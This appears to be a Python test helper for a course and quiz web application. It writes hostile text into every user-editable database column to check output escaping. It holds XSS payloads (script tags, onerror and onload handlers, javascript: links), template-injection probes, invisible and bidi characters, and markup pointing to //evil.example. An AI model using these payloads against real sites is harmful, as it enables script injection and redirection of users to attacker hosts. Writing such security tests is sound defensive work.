"""Hostile text in every column that holds words: markup, template code, line-turning and invisible characters."""

from __future__ import annotations

from typing import Any

from sqlalchemy import JSON, Column, String, select, update
from sqlalchemy.orm import Session

from questions.reading.article import section_from_json
from webapp.models.module import SectionVersion
from webapp.models.registry import metadata
from webapp.services import section_html

SHORT = "\"'><img src=x onerror=pwn()>{{7919*7907}}\u202e\u2066"
"""Breaks out of attributes, runs where markup is not escaped, computes where a template is evaluated, turns lines."""
LONG = SHORT + (
    "<script>pwn()</script><svg/onload=pwn()><iframe srcdoc='<script>parent.pwn()</script>'></iframe>"
    "</textarea></title></style><style>body{display:none}</style><base href='//evil.example'>"
    "<form action='//evil.example'><a href='javascript:pwn()'>x</a><!-- ]]> &lt;b&gt; --!>"
    "<img src='//evil.example/x.png'><link rel=stylesheet href='//evil.example'><meta http-equiv=refresh "
    "content='0;url=//evil.example'>{% raw %}{{config}}{%endraw%}${7919*7907}#{7919*7907}<%= 7919*7907 %>"
    "\u202a\u2067\u200f\u200b\u2028\u00ad\ufeff\U000e0041';pwn();//`${pwn()}`\\"
)
PRODUCT = str(7919 * 7907)
"""What stands on a page when one of the templates was evaluated."""

OURS = {
    "account": {"fs_uniquifier", "password", "username", "email", "preferences"},
    "role": {"name"},
    "course": {"slug", "time_zone"},
    "login_session": {"token"},
    "access_link": {"purpose", "secret_hash", "role_name"},
    "sign_in_failure": {"identity", "address"},
    "module": {"slug", "language", "state"},
    "enrolment": {"role"},
    "section_version": {"text", "blocks", "html", "content_hash"},
    "item": {"state", "origin", "generated_id", "recipe", "level", "tier", "generator_version"},
    "item_version": {"type"},
    "review_decision": {"decision", "state_before"},
    "spare_item": {"generated_id", "recipe", "level", "tier", "generator_version"},
    "quiz": {
        "kind",
        "mode",
        "behaviour",
        "confidence",
        "counted",
        "late_credit",
        "overdue",
        "release",
    },
    "ruling": {"kind", "changes"},
    "attempt": {"state", "behaviour", "confidence", "ended_by"},
    "attempt_slot": {"status", "option_order"},
    "job": {"kind", "state"},
}
"""Columns that hold words of ours, random numbers or hashes, and names that a form holds to letters and digits;
a section's text is poisoned together with its HTML, as the application makes it."""
KEPT = {
    "kind",
    "type",
    "role",
    "section",
    "start",
    "end",
    "check",
    "severity",
    "field",
    "module_id",
    "choice",
    "order",
    "gap",
    "tier",
}
"""Parts of stored data that are words or numbers of ours."""


def poison_everything(session: Session) -> None:
    """Put hostile text behind every word in the database that somebody may have written."""
    for table in metadata.sorted_tables:
        key = next(iter(table.primary_key.columns))
        columns = [
            column
            for column in table.columns
            if isinstance(column.type, String | JSON) and column.name not in OURS.get(table.name, set())
        ]
        for row in session.execute(select(key, *columns)).mappings().all() if columns else ():
            values = {column.name: _poisoned(column, row[column.name]) for column in columns}
            session.execute(update(table).where(key == row[key.name]).values(values))
    session.expire_all()
    for version in session.scalars(select(SectionVersion)):
        _poison_text(version)
    session.commit()


def _poisoned(column: Column[Any], value: Any) -> Any:
    if isinstance(column.type, JSON):
        return _poisoned_data(value)
    room = getattr(column.type, "length", None) or len(LONG) + 10_000
    poison = LONG if room > len(LONG) + len(value or "") else SHORT
    return ((value or "")[: room - len(poison)] + poison)[:room]


def _poisoned_data(value: Any) -> Any:
    if isinstance(value, str):
        return value + LONG
    if isinstance(value, list):
        return [_poisoned_data(part) for part in value]
    if isinstance(value, dict):
        return {name: part if name in KEPT else _poisoned_data(part) for name, part in value.items()}
    return value


def _poison_text(version: SectionVersion) -> None:
    """A further paragraph, and a question and answer, made into HTML by the application itself."""
    start = len(version.text) + 2
    version.text += f"\n\n{LONG}. {LONG}"
    version.blocks = [*version.blocks, {"kind": "prose", "start": start, "end": len(version.text)}]
    data = {
        "id": str(version.section_id),
        "heading": version.heading,
        "text": version.text,
        "blocks": version.blocks,
    }
    version.html = section_html.render(section_from_json(data))
